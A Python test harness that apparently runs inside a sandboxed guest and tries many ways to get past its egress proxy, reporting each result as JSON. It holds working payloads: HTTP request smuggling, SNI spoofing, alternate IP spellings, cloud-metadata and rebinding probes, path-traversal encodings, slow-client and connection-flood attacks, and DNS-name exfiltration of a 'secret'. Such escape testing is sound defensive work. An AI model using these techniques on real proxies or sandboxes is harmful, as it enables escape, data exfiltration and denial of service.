"""A program that runs inside a guest and tries to get out. Standard library only, because it is
copied there: `attacker.py NAME` makes one attempt and prints what it was told, as JSON.

What it knows stands in the file `attacker.json` beside it: addresses and names of the internet, and
for an agent's guest the identity by which its listener is opened. In a shell's guest it is the
proxy that the environment names.
"""

import contextlib
import json
import os
import socket
import ssl
import sys
import threading
import time
from collections.abc import Callable
from functools import partial
from pathlib import Path

KNOWN = json.loads(Path(__file__).with_suffix(".json").read_text())
ALLOWED, UNLISTED = "files.example.org", "unlisted.example.org"
ANSWER_S = 20.0


def opened() -> socket.socket:
    """A connection to the listener, ready for the first byte of a request."""
    if not (own := KNOWN.get("listener")):
        host, _, port = os.environ["HTTPS_PROXY"].removeprefix("http://").rpartition(":")
        return socket.create_connection((host, int(port.rstrip("/"))), timeout=ANSWER_S)
    plain = socket.socket(socket.AF_UNIX)
    plain.settimeout(ANSWER_S)
    plain.connect(own["path"])
    context = ssl.create_default_context(cadata=own["authority"])
    context.load_cert_chain(Path(__file__).with_name("attacker.pem"))
    return context.wrap_socket(plain, server_hostname="egress")


def head(line: str, *headers: str) -> bytes:
    """A request's head, with what the agent's listener wants to see."""
    own = KNOWN.get("listener")
    if own:
        headers = (
            *(f"oxydra-token: {own['token']}", "oxydra-session: s-1", "oxydra-turn: t-1"),
            *headers,
        )
    return "\r\n".join((line, *headers, "", "")).encode()


def heard(connection: socket.socket, enough: Callable[[bytes], bool] = lambda _: False) -> str:
    """What comes until the other side closes, falls silent, or `enough` has come."""
    said = b""
    try:
        while not enough(said):
            piece = connection.recv(65536)
            if not piece:
                break
            said += piece
            if len(said) > 100_000:
                break
    except (OSError, ssl.SSLError):
        pass
    return said.decode("latin-1")[:4000]


def ask(line: str, *headers: str, body: bytes = b"") -> str:
    """The answer to one request in these very words."""
    with opened() as connection:
        with contextlib.suppress(OSError):
            connection.sendall(head(line, *headers, "Connection: close") + body)
        return heard(connection)


def tunnelled(to: str, first: bytes | list[bytes]) -> str:
    """What is said after a CONNECT to `to`, and then first to the bytes `first` in the tunnel."""
    with opened() as connection:
        connection.sendall(head(f"CONNECT {to} HTTP/1.1", f"Host: {to}"))
        said = heard(connection, lambda said: b"\r\n\r\n" in said)
        if not said.startswith("HTTP/1.1 200"):
            return said + heard(connection)
        for piece in first if isinstance(first, list) else [first]:
            try:
                connection.sendall(piece)
                time.sleep(0.05)
            except OSError as error:
                return said + repr(error)
        return said + heard(connection, bool)


def hello(name: str) -> bytes:
    """The first bytes of TLS for `name`; for none, of TLS without a name."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    context = ssl.create_default_context()
    context.check_hostname = False
    tls = context.wrap_bio(incoming, outgoing, server_hostname=name or None)
    with contextlib.suppress(ssl.SSLWantReadError):
        tls.do_handshake()
    return outgoing.read()


def with_extension(record: bytes, number: int, content: bytes) -> bytes:
    """A ClientHello with one extension more."""
    extra = number.to_bytes(2, "big") + len(content).to_bytes(2, "big") + content
    body = bytearray(record[9:])
    at = 34 + 1 + body[34]
    at += 2 + int.from_bytes(body[at : at + 2], "big")
    at += 1 + body[at]
    length = int.from_bytes(body[at : at + 2], "big") + len(extra)
    body[at : at + 2] = length.to_bytes(2, "big")
    body += extra
    message = b"\x01" + len(body).to_bytes(3, "big") + bytes(body)
    return record[:3] + len(message).to_bytes(2, "big") + message


def in_records(record: bytes, size: int) -> bytes:
    """The same ClientHello over records of `size` bytes."""
    message = record[5:]
    pieces = [message[at : at + size] for at in range(0, len(message), size)]
    return b"".join(record[:3] + len(piece).to_bytes(2, "big") + piece for piece in pieces)


def direct(kind: str, to: str, port: int, content: bytes = b"out") -> str:
    """A packet past egress."""
    family = socket.AF_INET6 if ":" in to else socket.AF_INET
    numbers: dict[str, tuple[int, int]] = {
        "tcp": (socket.SOCK_STREAM, 0),
        "udp": (socket.SOCK_DGRAM, 0),
        "icmp": (socket.SOCK_RAW, socket.IPPROTO_ICMP),
        "ping": (socket.SOCK_DGRAM, socket.IPPROTO_ICMP),
    }
    try:
        with socket.socket(family, *numbers[kind]) as made:
            made.settimeout(2)
            made.connect((to, port))
            made.send(b"\x08\0\xf7\xff\0\0\0\0" if kind in ("icmp", "ping") else content)
            with contextlib.suppress(TimeoutError):
                made.recv(1)
            return "it was sent"
    except OSError as error:
        return repr(error)


def packet() -> str:
    try:
        with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)) as made:
            names = [name for _, name in socket.if_nameindex() if name != "lo"]
            if not names:
                return "no interface"
            made.bind((names[0], 0))
            made.send(b"\xff" * 6 + b"\0" * 6 + b"\x08\0" + b"out" * 20)
            return "it was sent"
    except OSError as error:
        return repr(error)


def resolved(name: str) -> str:
    try:
        return str(socket.getaddrinfo(name, 443))
    except OSError as error:
        return repr(error)


def slowly() -> str:
    """A head that comes a byte at a time and never ends, until the listener has had enough."""
    with opened() as connection:
        connection.settimeout(0.5)
        began = time.monotonic()
        try:
            for byte in head(f"GET http://{ALLOWED}/ HTTP/1.1", f"x-slow: {'y' * 400}")[:-2]:
                connection.sendall(bytes([byte]))
                try:
                    said = connection.recv(4096)
                    return f"ended: {said.decode('latin-1')[:200]}"
                except TimeoutError:
                    if time.monotonic() - began > 60:
                        return "it listens for ever"
        except OSError as error:
            return f"ended: {error!r}"
        return "it listens for ever"


def crowd() -> str:
    """How many connections that ask for nothing are held at once."""
    held: list[socket.socket] = []
    refused = ""
    for _ in range(KNOWN["crowd"]):
        try:
            held.append(opened())
        except OSError as error:
            refused = repr(error)
            break
    time.sleep(1)
    return f"{len(held)} {refused}"


def past_egress() -> str:
    """The socket of the listener itself, without a certificate."""
    said = []
    for path in ("/egress/http.sock", "/agent/http.sock", "/shell/http.sock", "/ipc/egress.sock"):
        try:
            with socket.socket(socket.AF_UNIX) as made:
                made.settimeout(5)
                made.connect(path)
                made.sendall(head(f"CONNECT {ALLOWED}:443 HTTP/1.1", "oxydra-token: x"))
                said.append(f"{path}: {heard(made)!r}")
        except OSError as error:
            said.append(f"{path}: {error!r}")
        try:
            context = ssl.create_default_context()
            context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
            with socket.socket(socket.AF_UNIX) as made:
                made.settimeout(5)
                made.connect(path)
                with context.wrap_socket(made) as tls:
                    tls.sendall(b"OXYDRA/1 x - -\r\n" + head(f"CONNECT {ALLOWED}:443 HTTP/1.1"))
                    said.append(f"{path}: {heard(tls)!r}")
        except OSError as error:
            said.append(f"{path}: {error!r}")
    return "\n".join(said)


def relayed() -> str:
    """By a proxy of one's own in the guest, which asks the listener in its turn."""
    near, inner = socket.socketpair()
    near.settimeout(ANSWER_S)

    def serve() -> None:
        with inner, opened() as outer:
            outer.sendall(inner.recv(65536))
            inner.sendall(heard(outer).encode("latin-1"))

    threading.Thread(target=serve, daemon=True).start()
    with near:
        near.sendall(head(f"CONNECT {UNLISTED}:443 HTTP/1.1", f"Host: {UNLISTED}:443"))
        return heard(near)


def within(host: str, line: str, *headers: str) -> str:
    """A request inside of TLS to `host`, by a client that believes any certificate."""
    with opened() as connection:
        connection.sendall(head(f"CONNECT {host}:443 HTTP/1.1", f"Host: {host}:443"))
        said = heard(connection, lambda said: b"\r\n\r\n" in said)
        if not said.startswith("HTTP/1.1 200"):
            return said + heard(connection)
        context = ssl.create_default_context()
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
        tls = context.wrap_bio(incoming, outgoing, server_hostname=host)
        request = "\r\n".join((line, *headers, "", "")).encode("latin-1")
        answer: list[bytes] = []
        steps: list[Callable[[], object]] = [
            tls.do_handshake,
            lambda: tls.write(request),
            lambda: answer.append(tls.read(65536)),
        ]
        try:
            while steps:
                try:
                    steps[0]()
                    steps.pop(0)
                except ssl.SSLWantReadError:
                    if outgoing.pending:
                        connection.sendall(outgoing.read())
                    piece = connection.recv(65536)
                    if not piece:
                        return "ended"
                    incoming.write(piece)
                if outgoing.pending:
                    connection.sendall(outgoing.read())
            return answer[0].decode("latin-1")
        except (OSError, ssl.SSLError) as error:
            return repr(error)


PLAIN = (f"GET http://{ALLOWED}/hello HTTP/1.1", f"Host: {ALLOWED}")
_WEB = KNOWN["web"]
_NUMBER = int.from_bytes(socket.inet_aton(_WEB), "big")
_OCTETS = _WEB.split(".")
_LONG = f"{ALLOWED}:443"
SPELLINGS = {
    "address": _WEB,
    "decimal": str(_NUMBER),
    "octal": ".".join(f"0{int(octet):o}" for octet in _OCTETS),
    "hexadecimal": hex(_NUMBER),
    "short": f"{_OCTETS[0]}.{_OCTETS[1]}.{int(_OCTETS[2]) * 256 + int(_OCTETS[3])}",
    "mapped": f"[::ffff:{_WEB}]",
    "dotted": f"{_WEB}.",
    "full_width": "".join(chr(0xFF10 + int(c)) if c.isdigit() else c for c in _WEB),
}
PLACES = {
    "loopback": "127.0.0.1",
    "loopback6": "[::1]",
    "unspecified": "0.0.0.0",
    "private": KNOWN["private"],
    "metadata": "169.254.169.254",
    "link_local": "[fe80::1]",
    "multicast": "224.0.0.1",
}


NAMED = ("loopback", "loopback6", "mapped", "private", "metadata", "mixed")


def both_ways(to: str) -> str:
    """What is said to a tunnel to `to`, and to a plain request."""
    return tunnelled(f"{to}:443", hello(ALLOWED if to in SPELLINGS.values() else to)) + ask(
        f"GET http://{to}/ HTTP/1.1", f"Host: {to}"
    )


def smuggled(*headers: str, body: bytes) -> str:
    return ask(f"POST http://{ALLOWED}/echo HTTP/1.1", f"Host: {ALLOWED}", *headers, body=body)


_INNER = b"GET /inner HTTP/1.1\r\nHost: unlisted.example.org\r\n\r\n"

ATTEMPTS: dict[str, Callable[[], str]] = {
    "plain": lambda: ask(*PLAIN),
    "tunnel": lambda: tunnelled(_LONG, hello(ALLOWED))[:200],
    **{f"spelled_{name}": partial(both_ways, to) for name, to in SPELLINGS.items()},
    **{f"place_{name}": partial(both_ways, to) for name, to in PLACES.items()},
    **{f"named_{name}": partial(both_ways, f"{name}.example.org") for name in NAMED},
    "rebinding": lambda: "\n".join(
        ask(f"GET http://{KNOWN['rebind']}/{n} HTTP/1.1", f"Host: {KNOWN['rebind']}")
        + tunnelled(f"{KNOWN['rebind']}:443", hello(KNOWN["rebind"]))[:100]
        for n in range(3)
    ),
    "unlisted": lambda: (
        tunnelled(f"{UNLISTED}:443", hello(UNLISTED))
        + ask(f"GET http://{UNLISTED}/ HTTP/1.1", f"Host: {UNLISTED}")
    ),
    "secret_in_a_name": lambda: ask(
        "GET http://the-secret.unlisted.example.org/ HTTP/1.1",
        "Host: the-secret.unlisted.example.org",
    ),
    "other_sni": lambda: tunnelled(_LONG, hello(UNLISTED)),
    "other_sni_in_pieces": lambda: tunnelled(
        _LONG, [bytes([byte]) for byte in in_records(hello(UNLISTED), 16)[:300]]
    ),
    "no_sni": lambda: tunnelled(_LONG, hello("")),
    "encrypted_hello": lambda: tunnelled(
        _LONG, with_extension(hello(ALLOWED), 0xFE0D, b"\0\0\1\0\1\0\0\0\4abcd")
    ),
    "two_names": lambda: tunnelled(
        _LONG,
        with_extension(
            hello(ALLOWED),
            0,
            b"\0\x17\0\0\x14" + UNLISTED.encode(),
        ),
    ),
    "endless_hello": lambda: tunnelled(
        _LONG, [b"\x16\x03\x01\x40\0\x01\xff\xff\xff" + bytes(16379)] * 12
    ),
    "plain_in_tunnel": lambda: tunnelled(
        _LONG, f"GET /inner HTTP/1.1\r\nHost: {ALLOWED}\r\n\r\n".encode()
    ),
    "ssh_in_tunnel": lambda: tunnelled(_LONG, b"SSH-2.0-OpenSSH_9\r\n"),
    "other_port": lambda: tunnelled(f"{ALLOWED}:22", b"SSH-2.0-OpenSSH_9\r\n"),
    "proxy_chain": lambda: tunnelled(
        "proxy.example.org:3128", f"CONNECT {UNLISTED}:443 HTTP/1.1\r\n\r\n".encode()
    ),
    "connect_in_tunnel": lambda: tunnelled(
        _LONG, f"CONNECT {UNLISTED}:443 HTTP/1.1\r\n\r\n".encode()
    ),
    "relay": relayed,
    "redirect": lambda: (
        ask(f"GET http://{ALLOWED}/redirect?http://{UNLISTED}/ HTTP/1.1", f"Host: {ALLOWED}")
        + ask(f"GET http://{UNLISTED}/ HTTP/1.1", f"Host: {UNLISTED}")
    ),
    "other_host": lambda: ask(f"GET http://{ALLOWED}/echo HTTP/1.1", f"Host: {UNLISTED}"),
    "two_hosts": lambda: ask(
        f"GET http://{ALLOWED}/echo HTTP/1.1", f"Host: {ALLOWED}", f"Host: {UNLISTED}"
    ),
    "length_and_chunks": lambda: smuggled(
        "Content-Length: 5", "Transfer-Encoding: chunked", body=b"0\r\n\r\n" + _INNER
    ),
    "two_lengths": lambda: smuggled("Content-Length: 0", "Content-Length: 51", body=_INNER),
    "odd_length": lambda: smuggled("Content-Length: +0", body=_INNER),
    "odd_chunks": lambda: smuggled("Transfer-Encoding: xchunked", body=b"0\r\n\r\n" + _INNER),
    "folded": lambda: smuggled("Transfer-Encoding:\r\n chunked", body=b"0\r\n\r\n" + _INNER),
    "space_before_colon": lambda: smuggled("Content-Length : 0", body=_INNER),
    "bare_line_feed": lambda: smuggled(
        f"x-a: b\nHost: {UNLISTED}\nTransfer-Encoding: chunked", body=b"0\r\n\r\n" + _INNER
    ),
    "bare_carriage_return": lambda: smuggled("x-a: b\rHost: unlisted.example.org", body=b""),
    "nul_in_header": lambda: smuggled("x-a: b\0c", body=b""),
    "chunk_extension": lambda: smuggled(
        "Transfer-Encoding: chunked", body=b"0;a=b\nx\r\n\r\n" + _INNER
    ),
    "userinfo": lambda: (
        ask(f"GET http://{ALLOWED}@{UNLISTED}/ HTTP/1.1", f"Host: {UNLISTED}")
        + ask(f"GET http://{UNLISTED}@{ALLOWED}/x HTTP/1.1", f"Host: {ALLOWED}")
    ),
    "fragment": lambda: ask(f"GET http://{UNLISTED}#@{ALLOWED}/ HTTP/1.1", f"Host: {UNLISTED}"),
    "backslash": lambda: ask(f"GET http://{UNLISTED}\\@{ALLOWED}/ HTTP/1.1", f"Host: {ALLOWED}"),
    "other_schemes": lambda: "".join(
        ask(f"GET {scheme}://{ALLOWED}/ HTTP/1.1", f"Host: {ALLOWED}")
        for scheme in ("ftp", "file", "ws", "gopher", "unix", "data")
    ),
    "secure_absolute": lambda: ask(f"GET https://{UNLISTED}/ HTTP/1.1", f"Host: {UNLISTED}"),
    "port_in_host": lambda: ask(f"GET http://{ALLOWED}:22/ HTTP/1.1", f"Host: {ALLOWED}:22"),
    "relative": lambda: ask("GET /hello HTTP/1.1", f"Host: {UNLISTED}"),
    "websocket": lambda: ask(
        f"GET http://{ALLOWED}/socket HTTP/1.1",
        f"Host: {ALLOWED}",
        "Upgrade: websocket",
        "Connection: Upgrade",
        "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==",
        "Sec-WebSocket-Version: 13",
    ),
    "http2_upgrade": lambda: ask(
        f"GET http://{ALLOWED}/ HTTP/1.1",
        f"Host: {ALLOWED}",
        "Connection: Upgrade, HTTP2-Settings",
        "Upgrade: h2c",
        "HTTP2-Settings: AAMAAABkAAQAAP__",
    ),
    "http2_preface": lambda: ask("PRI * HTTP/2.0") + ask("SM"),
    "trace": lambda: ask(f"TRACE http://{ALLOWED}/ HTTP/1.1", f"Host: {ALLOWED}"),
    "odd_method": lambda: ask(f"G\x01T http://{ALLOWED}/ HTTP/1.1", f"Host: {ALLOWED}"),
    "long_head": lambda: ask(*PLAIN, f"x-long: {'y' * 200_000}"),
    "many_headers": lambda: ask(*PLAIN, *(f"x-{n}: y" for n in range(5000))),
    "long_target": lambda: ask(f"GET http://{ALLOWED}/{'y' * 100_000} HTTP/1.1"),
    "slow_client": slowly,
    "crowd": crowd,
    "past_egress": past_egress,
    "no_path": lambda: "".join(
        within("api.example.org", f"GET {path} HTTP/1.1", "Host: api.example.org")
        for path in (
            "/private/x",
            "/public/../private/x",
            "/public/%2e%2e/private/x",
            "/public/%2E%2e%2fprivate/x",
            "/public/..;/private/x",
            "//private/x",
            "/Private/x",
            "/public\\..\\private/x",
        )
    ),
    "no_method": lambda: within(
        "api.example.org", "DELETE /public/x HTTP/1.1", "Host: api.example.org"
    ),
    "other_host_within": lambda: within(
        "api.example.org", "GET /public/x HTTP/1.1", f"Host: {UNLISTED}"
    ),
    "absolute_within": lambda: within(
        "api.example.org", f"GET http://{UNLISTED}/public/x HTTP/1.1", "Host: api.example.org"
    ),
    "websocket_within": lambda: within(
        "api.example.org",
        "GET /public/socket HTTP/1.1",
        "Host: api.example.org",
        "Upgrade: websocket",
        "Connection: Upgrade",
        "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==",
        "Sec-WebSocket-Version: 13",
    ),
    "readable": lambda: within(
        "api.example.org", "GET /public/x HTTP/1.1", "Host: api.example.org"
    ),
    "tcp": lambda: direct("tcp", _WEB, 80, b"GET / HTTP/1.0\r\n\r\n"),
    "tcp_metadata": lambda: direct("tcp", "169.254.169.254", 80, b"GET / HTTP/1.0\r\n\r\n"),
    "tcp_host": lambda: direct("tcp", KNOWN["host"], KNOWN["host_port"]),
    "dns": lambda: direct("udp", KNOWN["names"], 53) + direct("tcp", KNOWN["names"], 53),
    "quic": lambda: direct("udp", _WEB, 443),
    "ping": lambda: direct("icmp", _WEB, 0) + direct("ping", _WEB, 0),
    "packet": packet,
    "resolver": lambda: resolved("the-secret.unlisted.example.org") + resolved(ALLOWED),
}

if __name__ == "__main__":
    try:
        told = ATTEMPTS[sys.argv[1]]()
    except OSError as failed:
        told = f"failed: {failed!r}"
    print("TOLD:" + json.dumps(told))
